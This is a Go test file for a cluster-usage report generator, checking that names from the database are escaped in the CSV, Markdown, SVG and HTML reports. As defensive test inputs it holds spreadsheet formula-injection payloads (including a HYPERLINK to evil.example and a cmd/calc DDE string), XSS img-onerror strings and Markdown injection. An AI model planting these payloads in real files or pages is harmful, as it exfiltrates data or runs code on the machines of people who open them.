package report

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/fairway-hpc/fairway/policy"
	"github.com/fairway-hpc/fairway/policy/sim"
)

// hostileReport is a report whose one account has the name given: on a
// site that does not enforce associations a user chooses the account a
// job names, and the report prints account names in every format.
func hostileReport(acct string) *Report {
	row := Row{Account: acct, Shares: 1, Entitled: 0.5, Used: 0.5, Hours: 10, Jobs: 3, Users: 1,
		MedianWait: 60, P95Wait: 120, MedianRho: 1}
	u := row
	u.User = "bob"
	return &Report{Cluster: "c", Month: "2026-10", Title: "October 2026", Unit: "GPU",
		Summary:  Summary{Jobs: 3, Started: 3, Hours: 10, Available: 20, Utilization: 0.5, Jain: 1, MedianWait: 60, P95Wait: 120},
		Accounts: []Row{row}, Users: []Row{u}}
}

// TestCSV_FormulaKeptAsText: a cell a spreadsheet would evaluate is written
// with a leading apostrophe; numbers, negative ones too, are not touched.
func TestCSV_FormulaKeptAsText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A2,"click")`: `'=HYPERLINK("http://evil.example/?"&A2,"click")`,
		"+cmd|' /C calc'!A0":                             "'+cmd|' /C calc'!A0",
		"@SUM(1+1)":                                      "'@SUM(1+1)",
		"-2+3":                                           "'-2+3",
		"\tx":                                            "'\tx",
		"-0.25":                                          "-0.25",
		"+2466%":                                         "+2466%",
		"+63.5 pts":                                      "+63.5 pts",
		"-9%":                                            "-9%",
		"-2+3+cmd|' /C calc'!A0":                         "'-2+3+cmd|' /C calc'!A0",
		"-1e5":                                           "'-1e5",
		"physics":                                        "physics",
		"":                                               "",
	} {
		if got := csvText(in); got != want {
			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
		}
	}
	dir := t.TempDir()
	if _, err := Write(dir, hostileReport(`=HYPERLINK("http://evil.example/?"&A2,"click")`), []string{"csv"}); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"accounts.csv", "users.csv"} {
		b, err := os.ReadFile(filepath.Join(dir, f))
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
					t.Errorf("%s: formula cell %q", f, cell)
				}
			}
		}
	}
}

// TestMarkdown_NamesAsText: an account name's raw HTML, link and newline
// come out as characters in report.md, in the tables and the highlights.
func TestMarkdown_NamesAsText(t *testing.T) {
	var b bytes.Buffer
	acct := "a<img src=x onerror=alert(1)>[click](https://evil.example)|x\n\n# Forged heading"
	if err := WriteMarkdown(&b, hostileReport(acct), nil); err != nil {
		t.Fatal(err)
	}
	md := b.String()
	for _, bad := range []string{"<img", "[click]", "\n# Forged heading"} {
		if strings.Contains(md, bad) {
			t.Errorf("report.md holds %q from an account name", bad)
		}
	}
	esc := `a&lt;img src=x onerror=alert(1)&gt;\[click\](https://evil.example)\|x` + "\uFFFD\uFFFD# Forged heading"
	if n := strings.Count(md, esc); n < 2 {
		t.Errorf("the escaped name appears %d times, want in a table and the highlights:\n%s", n, md)
	}
}

// TestFigures_NoControlCharacters: the SVG figures written beside report.md
// stay well-formed XML, which allows no control character, and the HTML
// page escapes the name, for an account's name (the bars, the legend) and
// the cluster's (the utilization plot's title, the page's heading).
func TestFigures_NoControlCharacters(t *testing.T) {
	const hostile = "a<img src=x onerror=alert(1)>\"'\x01"
	for _, tc := range []struct {
		name    string
		report  func() *Report
		figures int
	}{
		{"account", func() *Report {
			r := hostileReport(hostile)
			r.waits = []accountWaits{{account: r.Accounts[0].Account, waits: []float64{1, 2, 3}}}
			return r
		}, 2},
		{"cluster", func() *Report {
			r := hostileReport("a")
			r.Cluster = hostile
			r.Capacity.Units = 4
			r.Daily = []Day{{Date: "2026-10-01", Hours: 10, Utilization: 0.1}}
			return r
		}, 2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := tc.report()
			figs, err := Figures(r)
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			if err := WriteHTML(&b, r, figs); err != nil {
				t.Fatal(err)
			}
			if strings.Contains(b.String(), "<img src=x") || strings.ContainsRune(b.String(), '\x01') {
				t.Errorf("report.html holds the name raw")
			}
			if len(figs) != tc.figures {
				t.Fatalf("%d figures, want %d", len(figs), tc.figures)
			}
			for _, f := range figs {
				if bytes.ContainsRune(f.SVG, '\x01') {
					t.Errorf("figure %s holds a control character: not well-formed XML", f.Name)
				}
			}
		})
	}
}

// TestMarkdown_DatabaseTextAsText: text from the database other than
// account and user names reaches report.md too: the cluster's name in the
// heading, and partition names and GPU types in the sentence and the note
// naming the jobs the counterfactual left out (a job's recorded partition
// or GPU type that no node of --partitions has, or a partition slurmrestd
// lists). None of it may come through as HTML, a link or a new line.
func TestMarkdown_DatabaseTextAsText(t *testing.T) {
	const evil = "x<img src=x onerror=alert(1)>[click](https://evil.example)|\n# Forged heading"
	at := func(day int) time.Time { return time.Date(2026, 10, day, 0, 0, 0, 0, time.UTC) }
	job := func(id int64, part, typ string) policy.Job {
		return policy.Job{ID: id, ArrayTask: -1, User: "alice", Account: "a", Partition: part, GPUs: 1, GPUType: typ,
			Submit: at(int(id)), Start: at(int(id)).Add(time.Hour), End: at(int(id)).Add(3 * time.Hour),
			State: policy.StateCompleted, TimeLimit: 4 * time.Hour}
	}
	typed := &sim.Layout{Partitions: []string{"gpu"}, Nodes: []sim.Node{{Units: 4, Partitions: []int{0}}}}
	for _, tc := range []struct {
		name    string
		cluster string
		jobs    []policy.Job
		layout  *sim.Layout
	}{
		{"cluster name", evil, []policy.Job{job(1, "gpu", "")}, typed},
		{"partition of a job", "c", []policy.Job{job(1, "gpu", ""), job(2, evil, "")}, typed},
		{"GPU type of a job", "c", []policy.Job{job(1, "gpu", ""), job(2, "gpu", evil)}, typed},
		{"partition slurmrestd lists", "c", []policy.Job{job(1, evil, "")},
			&sim.Layout{Partitions: []string{evil}, Nodes: []sim.Node{{Units: 4, Partitions: []int{0}}}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := &Data{Cluster: tc.cluster, Month: Month{Year: 2026, Month: time.October}, Jobs: tc.jobs}
			r, err := Build(d, nil, Options{Layout: tc.layout, Counterfactual: true, SimPolicy: "fifo", SimPredictor: "none"})
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			if err := WriteMarkdown(&b, r, nil); err != nil {
				t.Fatal(err)
			}
			md := b.String()
			for _, bad := range []string{"<img", "[click]", "\n# Forged heading"} {
				if strings.Contains(md, bad) {
					t.Errorf("report.md holds %q from the database:\n%s", bad, md)
				}
			}
			if !strings.Contains(md, `x&lt;img src=x onerror=alert(1)&gt;\[click\](https://evil.example)\|`) {
				t.Errorf("report.md lacks the escaped text:\n%s", md)
			}
		})
	}
}
